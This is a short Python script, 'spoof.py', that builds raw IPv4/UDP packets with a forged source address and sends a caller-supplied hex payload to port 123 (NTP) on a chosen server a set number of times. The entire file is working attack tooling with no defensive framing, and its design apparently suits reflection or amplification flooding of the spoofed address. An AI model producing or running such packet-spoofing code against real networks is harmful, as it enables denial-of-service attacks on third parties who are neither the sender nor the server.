"""Sends UDP datagrams with a forged source. usage: spoof.py SOURCE PORT SERVER COUNT HEX"""
import socket
import struct
import sys

source, port, server, count, data = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), bytes.fromhex(sys.argv[5])
udp = struct.pack("!HHHH", port, 123, 8 + len(data), 0) + data
# The kernel fills in the checksum and, as they are 0 here, length and identification.
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(server))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(count):
    raw.sendto(ip + udp, (server, 0))
